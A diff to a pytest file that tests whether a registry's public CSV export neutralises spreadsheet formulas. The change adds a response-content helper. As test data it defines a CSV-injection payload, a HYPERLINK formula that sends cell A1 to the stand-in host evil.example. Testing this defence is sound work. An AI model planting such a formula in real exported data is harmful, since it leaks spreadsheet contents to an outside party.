@@ -10,6 +10,7 @@ import pytest
 
 from registry.csv_safety import neutralise
 from registry.models import Status
+from tests.conftest import content_of
 
 ROOT = Path(__file__).resolve().parent.parent
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
@@ -36,7 +37,9 @@ def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell, written):
 
 def test_the_public_csv_neutralises_a_display_name_that_is_a_formula(client, make_entry):
     entry = make_entry(Status.VERIFIED, display_name=HYPERLINK, team_name="@équipe")
-    rows = list(csv.DictReader(io.StringIO(client.get("/open-data/accounts.csv").content.decode())))
+    rows = list(
+        csv.DictReader(io.StringIO(content_of(client.get("/open-data/accounts.csv")).decode()))
+    )
     row = next(row for row in rows if row["id"] == str(entry.pk))
     assert row["display_name"] == "'" + HYPERLINK
     assert row["team_name"] == "'@équipe"
@@ -45,7 +48,7 @@ def test_the_public_csv_neutralises_a_display_name_that_is_a_formula(client, mak
 
 def test_the_public_json_keeps_the_values_as_they_are(client, make_entry):
     entry = make_entry(Status.VERIFIED, display_name=HYPERLINK)
-    data = json.loads(client.get("/open-data/accounts.json").content)
+    data = json.loads(content_of(client.get("/open-data/accounts.json")))
     assert [a["display_name"] for a in data["accounts"] if a["id"] == entry.pk] == [HYPERLINK]
 
 
